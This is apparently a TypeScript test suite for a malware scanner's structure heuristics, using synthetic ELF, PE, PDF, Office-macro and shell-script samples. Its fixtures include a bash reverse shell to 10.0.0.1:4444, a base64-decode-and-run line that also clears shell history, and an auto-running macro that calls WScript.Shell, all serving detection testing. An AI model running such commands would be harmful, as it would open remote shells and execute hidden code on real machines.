import { readFileSync } from 'node:fs'
import { execPath } from 'node:process'
import fc from 'fast-check'
import t from 'tap'
import { StructureHeuristics } from '../../../scanner/engines/structure-heuristics.js'
import { identify, type FileKind } from '../../../scanner/identify.js'
import { scanPolicyConfig } from '../../../scanner/policy.js'
import { verdictOf } from '../../../scanner/verdict.js'

const heuristics = new StructureHeuristics(scanPolicyConfig.parse({}))
const judge = (content: Buffer | string): readonly string[] => {
  const bytes = Buffer.from(content)
  const reasons = heuristics.judge(bytes, { kind: identify(bytes), name: 'file' })
  return [verdictOf(reasons), ...reasons.map(({ rule }) => rule)]
}

/** A 64-bit ELF program with one segment. */
const elf = ({ entry = 0x1000, flags = 5, sections = 1, size = 64 }): Buffer => {
  const file = Buffer.alloc(256)
  file.write('\x7fELF\x02\x01\x01', 'latin1')
  file.writeUInt16LE(2, 16)
  file.writeBigUInt64LE(BigInt(entry), 24)
  file.writeBigUInt64LE(64n, 32)
  file.writeUInt16LE(56, 54)
  file.writeUInt16LE(1, 56)
  file.writeUInt16LE(sections, 60)
  file.writeUInt32LE(1, 64)
  file.writeUInt32LE(flags, 68)
  file.writeBigUInt64LE(0x1000n, 80)
  file.writeBigUInt64LE(BigInt(size), 96)
  file.writeBigUInt64LE(0x100n, 104)
  return file
}

/** A PE file with the given sections, entry point 0x1000. */
const pe = (sections: readonly { address: number; size: number; flags: number }[]): Buffer => {
  const file = Buffer.alloc(1024)
  file.write('MZ')
  file.writeUInt32LE(0x80, 0x3c)
  file.write('PE\0\0', 0x80, 'latin1')
  file.writeUInt16LE(sections.length, 0x86)
  file.writeUInt16LE(0xe0, 0x94)
  file.writeUInt32LE(0x1000, 0x80 + 24 + 16)
  for (const [index, { address, size, flags }] of sections.entries()) {
    const at = 0x80 + 24 + 0xe0 + index * 40
    file.writeUInt32LE(0x1000, at + 8)
    file.writeUInt32LE(address, at + 12)
    file.writeUInt32LE(size, at + 16)
    file.writeUInt32LE(flags, at + 36)
  }
  return file
}

const CODE = 0x60000020
const WRITABLE = 0xe0000020

t.test('honest structures are clean', async (t) => {
  t.strictSame(judge(elf({})), ['clean'])
  t.strictSame(judge(readFileSync(execPath)), ['clean'])
  t.strictSame(
    judge(
      pe([
        { address: 0x1000, size: 16, flags: CODE },
        { address: 0x3000, size: 16, flags: 0 },
      ]),
    ),
    ['clean'],
  )
  t.strictSame(judge('%PDF-1.7 /OpenAction [1 0 R /Fit]'), ['clean'])
  t.strictSame(judge('#!/bin/sh\necho base64 -d\n'), ['clean'])
})

t.test('signs add up to suspicious and never to more', async (t) => {
  t.strictSame(judge(elf({ entry: 0x9000 })), ['clean', 'elf_entry_outside_segments'])
  t.strictSame(judge(elf({ flags: 7, sections: 0 })), ['suspicious', 'elf_writable_entry', 'elf_no_sections'])
  t.strictSame(judge(elf({ size: 9999 })), ['clean', 'elf_truncated_segment'])
  t.strictSame(
    judge(
      pe([
        { address: 0x3000, size: 16, flags: 0 },
        { address: 0x1000, size: 0, flags: WRITABLE },
      ]),
    ),
    ['suspicious', 'pe_writable_entry', 'pe_empty_entry', 'pe_entry_in_last_section'],
  )
  t.strictSame(judge(pe([{ address: 0x8000, size: 16, flags: CODE }])), [
    'clean',
    'pe_entry_outside_sections',
  ])
  t.strictSame(judge('%PDF-1.7 /AA << /S /J#61vaScript /JS (x) >> /Launch'), [
    'suspicious',
    'pdf_launch',
    'pdf_script_on_open',
  ])
  t.strictSame(judge('%PDF-1.7 /OpenAction << /S /J#61vaScript /#4aS (x) >>'), [
    'suspicious',
    'pdf_script_on_open',
    'pdf_disguised_name',
  ])
  const ole = Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.from('_VBA_PROJECT', 'utf16le'),
    Buffer.from('Sub AutoOpen() CreateObject("WScript.Shell")'),
  ])
  t.strictSame(judge(ole), [
    'suspicious',
    'office_macro',
    'office_macro_runs_itself',
    'office_macro_reaches_out',
  ])
  t.strictSame(judge('#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n'), [
    'suspicious',
    'script_reverse_shell',
  ])
  t.strictSame(judge('#!/bin/sh\necho aGk= | base64 -d | sh\nhistory -c\n'), [
    'suspicious',
    'script_decoded_and_run',
    'script_hides_history',
  ])
})

t.test('damaged structures and hostile texts are judged, in linear time', async () => {
  const starts: [FileKind, Buffer][] = [
    ['elf', elf({})],
    ['pe', pe([{ address: 0x1000, size: 16, flags: CODE }])],
  ]
  fc.assert(
    fc.property(
      fc.constantFrom(...starts),
      fc.array(fc.tuple(fc.nat(255), fc.nat(255)), { maxLength: 20 }),
      fc.nat(1024),
      ([kind, start], changes, length) => {
        const content = Buffer.from(start.subarray(0, Math.max(64, length)))
        for (const [at, value] of changes) content[at] = value
        if (identify(content) === kind) heuristics.judge(content, { kind, name: '' })
      },
    ),
    { numRuns: 1000 },
  )
  for (const piece of ['base64 -d ', 'curl ', '/dev/tcp/a', '/JavaScript#', '#4', 'sh  ', '/', '#'])
    for (const kind of ['script', 'pdf', 'ole'] as const)
      heuristics.judge(Buffer.from(piece.repeat(200_000)), { kind, name: '' })
})
